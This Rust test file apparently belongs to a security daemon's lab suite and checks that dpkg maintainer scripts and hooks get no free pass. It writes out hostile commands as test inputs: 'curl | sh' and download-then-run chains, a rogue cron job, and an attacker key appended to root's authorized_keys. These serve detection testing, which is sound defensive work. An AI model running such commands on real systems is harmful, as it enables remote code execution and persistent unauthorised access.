//! What a package manager's name in the process tree excuses, and what it does not.

use crate::attacks::{Stage, stage};
use crate::daemon::{ALERT_WAIT, is_alert};
use crate::lab::Peer;
use anyhow::{Context, Result, ensure};
use std::fs;
use std::time::Duration;

/// Makes a package `name` whose maintainer script is `postinst`, in the container, and installs it.
fn install(name: &str, postinst: &str) -> String {
    format!(
        "set -e; rm -rf /tmp/deb; mkdir -p /tmp/deb/DEBIAN /var/lib/dpkg; cd /tmp/deb/DEBIAN; \
         printf 'Package: {name}\\nVersion: 1\\nArchitecture: all\\nMaintainer: x <x@example.org>\\nDescription: x\\n' \
         > control; printf '%s\\n' '#!/bin/sh' '{postinst}' > postinst; chmod 755 . .. postinst; \
         dpkg-deb -b /tmp/deb /tmp/{name}.deb; dpkg --force-not-root --force-bad-path -i /tmp/{name}.deb"
    )
}

/// A hook of dpkg's, as apt's `Pre-Invoke` is: text for `sh -c`.
fn hook(text: &str) -> String {
    format!("dpkg --pre-invoke='{text}' --configure -a")
}

fn quiet(stage: &Stage, what: &str) -> Result<()> {
    std::thread::sleep(Duration::from_millis(500));
    let rows = stage.watch.daemon.rows();
    let alerts =
        rows.iter().filter(|row| row["event"]["kind"] == "alert" && row["container"]["id"] == stage.container.id());
    let alerts: Vec<_> = alerts.map(|row| row["message"].clone()).collect();
    ensure!(alerts.is_empty(), "{what}: {alerts:?}");
    Ok(())
}

/// An honest package writes its own cron job and runs what it has brought: no finding, nothing stopped. What a
/// hook or a maintainer script fetches by itself, and the keys and jobs that a hook writes, are judged
/// like anybody's.
pub fn package_scripts_are_judged() -> Result<()> {
    for mode in ["monitor", "protect"] {
        let stage = stage(mode)?;
        let run = |script: &str| stage.container.run(script).map(drop);
        run(&install(
            "honest",
            "mkdir -p /etc/cron.d; echo honest > /etc/cron.d/honest; printf \"touch /tmp/done\\n\" > /tmp/own; sh /tmp/own",
        ))?;
        ensure!(stage.has("/tmp/done") && stage.holds("/etc/cron.d/honest", "honest"), "{mode}: the install failed");
        quiet(&stage, mode)?;

        let peer = Peer::web(stage.container.listen()?, "touch /tmp/ran\n")?;
        let url = format!("http://127.0.0.1:{}/x", peer.port);
        let acts = [
            hook(&format!("curl -s {url} | sh")),
            install("pipes", &format!("curl -s {url} | sh")),
            install("saves", &format!("curl -s -o /tmp/x {url}; cp /tmp/x /tmp/y; sh /tmp/y")),
        ];
        for (before, act) in acts.iter().enumerate() {
            run(act)?;
            ensure!(stage.has("/tmp/ran") == (mode == "monitor"), "{mode}: wrong effect of: {act}");
            stage
                .watch
                .daemon
                .await_alerts("download_exec", stage.container.id(), before + 1)
                .with_context(|| format!("{mode}: {act}"))?;
            run("rm -f /tmp/ran")?;
        }
        let writes = [
            ("persistence_cron", hook("echo attacker > /etc/cron.d/attacker"), "/etc/cron.d/attacker"),
            (
                "persistence_ssh_key",
                install("key", "mkdir -p /root/.ssh; echo attacker >> /root/.ssh/authorized_keys"),
                "/root/.ssh/authorized_keys",
            ),
        ];
        for (kind, act, file) in writes {
            run(&act)?;
            stage.watch.daemon.await_row(&format!("{kind} of {file}"), ALERT_WAIT, |row| {
                is_alert(row, kind, stage.container.id()) && row["file"]["path"] == file
            })?;
            let written = fs::read_to_string(stage.container.path(file)).is_ok_and(|text| text.contains("attacker"));
            ensure!(written == (mode == "monitor"), "{mode}: wrong content of {file} after: {act}");
        }
    }
    Ok(())
}
